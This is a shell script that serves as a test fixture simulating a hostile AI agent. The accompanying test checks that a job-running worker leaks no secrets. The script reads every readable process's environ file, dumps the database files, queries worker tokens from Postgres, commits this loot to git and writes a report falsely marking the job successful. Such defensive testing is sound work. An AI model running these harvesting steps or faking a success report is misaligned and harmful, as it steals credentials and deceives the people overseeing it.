#!/bin/sh
# A hostile agent: it runs where a real agent runs (in the clone, started by the worker) and
# tries every way it has to find a secret, then commits everything it found and puts it in its
# report, as if the job had succeeded. tests/it/field.rs checks that nothing secret reaches the
# remote, the pull request, the report or the logs.
#
#   sh hostile.sh LOOT_ROOT [DATABASE_URL] [PLANT]
#   LOOT_ROOT:    a directory to search for database files (the test's directory)
#   DATABASE_URL: a Postgres URL to read job_attempts from, if psql is installed
#   PLANT:        a string to commit as is (the test passes a token the worker holds, to see
#                 the worker refuse the push)
root="$1"
url="${2:-}"
plant="${3:-}"
loot=loot.txt
{
  echo "== my environment"
  env
  # Every process this user may look at: the conductor, the worker, anything else.
  for p in /proc/[0-9]*; do
    [ -r "$p/environ" ] || continue
    echo "== $p/environ ($(tr '\0' ' ' < "$p/cmdline" 2>/dev/null | cut -c1-120))"
    tr '\0' '\n' < "$p/environ" 2>/dev/null
  done
  # The database files and everything else readable next to them.
  find "$root" -name 'conductor.db*' -type f 2>/dev/null | while read -r f; do
    echo "== $f"
    strings "$f" 2>/dev/null || cat "$f"
  done
  # The worker's own directory: its log and anything it left there.
  for f in ../*; do
    [ -f "$f" ] && { echo "== $f"; cat "$f"; }
  done
  if [ -n "$url" ] && command -v psql >/dev/null 2>&1; then
    echo "== job_attempts from $url"
    psql "$url" -At -c "SELECT worker_id, token FROM job_attempts" 2>&1
  fi
} > "$loot" 2>/dev/null
[ -n "$plant" ] && echo "planted: $plant" >> "$loot"
git add "$loot"
git -c user.name="Hostile agent" -c user.email=agent@example.invalid commit -q -m "Loot"
mkdir -p agent-meta
echo true > agent-meta/WAS_JOB_SUCCESSFUL
echo "Everything I could read" > agent-meta/meta-info.txt
# A NUL and a byte that is not UTF-8, whatever the loot held: the report must still arrive.
{ echo "## Loot"; printf 'nul:\000 latin1:\377\n'; cat "$loot"; } > agent-meta/ending-report.md
exit 0
